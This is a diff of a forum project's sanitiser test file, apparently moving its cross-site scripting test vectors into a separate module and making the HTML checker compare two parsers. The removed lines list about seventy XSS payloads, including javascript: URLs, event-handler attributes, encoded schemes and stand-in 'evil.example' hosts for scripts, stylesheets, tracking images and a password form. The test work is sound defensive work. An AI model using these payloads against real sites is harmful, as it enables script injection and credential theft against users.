@@ -1,6 +1,5 @@
 """Nothing a person types becomes anything but text and the listed tags."""
 
-import re
 from html.parser import HTMLParser
 
 import pytest
@@ -10,121 +9,53 @@ from hypothesis import strategies as st
 
 from forums.forms import WritingField
 from forums.models import Post, Topic
-from forums.rendering import ATTRIBUTES, LONGEST, TAGS, VERSION, clean, has_letters, is_overloaded, to_html
+from forums.rendering import LONGEST, VERSION, clean, has_letters, is_overloaded, to_html
 from forums.services import refresh_html
-
-VECTORS = [
-    "<script>alert(1)</script>",
-    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
-    "<<script>script>alert(1)<</script>/script>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=x onerror\n=\nalert(1)//",
-    "<svg/onload=alert(1)>",
-    "<svg><script>alert&#40;1&#41;</script></svg>",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<object data=javascript:alert(1)></object>",
-    "<embed src=javascript:alert(1)>",
-    "<body onload=alert(1)>",
-    "<base href=//evil.example/>",
-    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<style>@import '//evil.example/x.css';</style>",
-    "<form action=//evil.example><input name=password></form>",
-    "<details open ontoggle=alert(1)>x</details>",
-    "<video><source onerror=alert(1)></video>",
-    "<marquee onstart=alert(1)>x</marquee>",
-    "<a href='javascript:alert(1)'>x</a>",
-    "<a href=x style='position:fixed;inset:0'>x</a>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<template><script>alert(1)</script></template>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?xml version='1.0'?><script>alert(1)</script>",
-    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](java\tscript:alert(1))",
-    "[x](java&#x0A;script:alert(1))",
-    "[x](&#106;avascript:alert(1))",
-    "[x](&#x6A&#x61;vascript:alert(1))",
-    "[x](\x01javascript:alert(1))",
-    "[x]( javascript:alert(1))",
-    "[x](javascript&colon;alert(1))",
-    "[x](vbscript:msgbox(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
-    "[x](file:///etc/passwd)",
-    "[x](<javascript:alert(1)>)",
-    '[x](https://a.example/"onmouseover="alert(1))',
-    "[x](https://a.example/ \"t' onmouseover=alert(1) '\")",
-    "[x]: javascript:alert(1)\n\n[x]",
-    "[<img src=x onerror=alert(1)>](https://a.example)",
-    "![x](javascript:alert(1))",
-    "![x](https://evil.example/track.png)",
-    "![x][y]\n\n[y]: https://evil.example/track.png",
-    "<javascript:alert(1)>",
-    "<data:text/html,<script>alert(1)</script>>",
-    "<https://a.example/'onclick=alert(1)>",
-    "https://a.example/'onclick='alert(1)",
-    'https://a.example/"><script>alert(1)</script>',
-    "```html\n<script>alert(1)</script>\n```",
-    '```"><script>alert(1)</script>\nx\n```',
-    "`<script>alert(1)</script>`",
-    "    <script>alert(1)</script>",
-    "> <script>alert(1)</script>",
-    "- <img src=x onerror=alert(1)>",
-    "1. <svg onload=alert(1)>",
-    "# <script>alert(1)</script>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "\\<script>alert(1)</script>",
-    "<scr\u200bipt>alert(1)</scr\u200bipt>",
-    "＜script＞alert(1)＜/script＞",
-    "<a\u00a0href=javascript:alert(1)>x",
-    "{{ 7*7 }}{% debug %}${7*7}",
-]
+from tests.forums.parsed import find_strange, parse
+from tests.forums.vectors import VECTORS
 
 
-class Reader(HTMLParser):
-    """Collects what a browser would see; fails on anything that is not on the list."""
+class Elements(HTMLParser):
+    """What the standard library's parser makes of a fragment: the elements in order, and no comment or declaration."""
 
     def __init__(self) -> None:
         super().__init__(convert_charrefs=True)
-        self.wrong: list[str] = []
+        self.seen: list[tuple[str, dict[str, str | None]]] = []
+        self.text = ""
 
     def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        allowed = ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
-        if tag not in TAGS or {name for name, _ in attrs} - allowed:
-            self.wrong.append(f"<{tag} {attrs}>")
-        values = dict(attrs)
-        if tag == "a":
-            target = re.sub(r"[\x00-\x20]", "", values.get("href") or "").lower()
-            if re.match(r"(?!https?:|mailto:|tel:)[a-z][a-z0-9+.-]*:", target):
-                self.wrong.append(target)
-            if values.get("rel") != "ugc nofollow noopener":
-                self.wrong.append("a link without its mark")
+        self.seen.append((tag, dict(attrs)))
 
-    def handle_comment(self, data: str) -> None:
-        self.wrong.append(f"<!--{data}")
+    def handle_data(self, data: str) -> None:
+        self.text += data
 
-    def handle_decl(self, decl: str) -> None:
-        self.wrong.append(f"<!{decl}")
+    def unknown_decl(self, data: str) -> None:
+        self.seen.append((f"!{data}", {}))
 
-    def handle_pi(self, data: str) -> None:
-        self.wrong.append(f"<?{data}")
+    handle_comment = handle_decl = handle_pi = unknown_decl
 
 
 def find_wrong(source: str) -> list[str]:
-    reader = Reader()
-    reader.feed(to_html(clean(source)))
-    reader.close()
-    return reader.wrong
+    """What is not on the list in the tree; also when two parsers do not read the same elements and the same text."""
+    html = to_html(clean(source))
+    tree, elements = parse(html), Elements()
+    elements.feed(html)
+    elements.close()
+    seen = [(node.tag, node.attributes) for node in tree.walk() if node.tag][1:]
+    differ = [] if (seen, tree.read()) == (elements.seen, elements.text) else ["the parsers read it differently"]
+    return find_strange(html) + differ
 
 
 @pytest.mark.parametrize("vector", VECTORS)
 def test_nothing_runs(vector: str) -> None:
     assert find_wrong(vector) == []
+
+
+def test_there_are_enough_vectors_and_unrendered_they_are_found() -> None:
+    assert len(set(VECTORS)) >= 200
+    assert find_strange("<img src=x onerror=alert(1)>") == ["<img> ", "img src=x", "img onerror=alert(1)"]
+    assert find_strange('<a rel="ugc nofollow noopener" href="java\tscript:x">x</a>') == ["javascript:x"]
+    assert find_strange("<!-- x --><p>x</p>") == ["<!>  x "]
 
 
 PIECES = st.lists(
@@ -183,6 +114,7 @@ def test_khmer_is_never_overloaded() -> None:
     assert not is_overloaded("ស្ត្រី ញ្ញុំ៎ះ ខ្ញុំស្រឡាញ់ស្រុកខ្មែរ សន្តិភាព កម្ពុជា ម៉ោង៦ព្រឹក")
     assert is_overloaded("Z" + "\u0351" * 9)
     assert not is_overloaded("é" * 1000)
+    assert is_overloaded("Z" + "\u0351\u200d" * 9)
 
 
 def test_only_invisible_characters_are_nothing() -> None:
